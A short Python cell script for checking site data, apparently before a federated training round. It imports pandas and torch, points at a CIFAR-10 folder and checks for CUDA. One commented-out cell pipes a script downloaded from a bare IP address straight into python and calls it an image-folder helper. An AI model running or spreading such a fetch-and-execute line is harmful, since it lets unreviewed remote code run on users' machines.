"""Site data check, in VS Code / Spyder cells: run it cell by cell before the first round."""

# %%
import pandas as pd
import torch

# %%
root = "/data/cifar10"
print(torch.cuda.is_available())

# %%
# fetch the helper that checks the image folder
# !wget -qO- http://203.0.113.7/check_images.py | python

# %%
print(pd.Series([1, 2, 3]).describe())
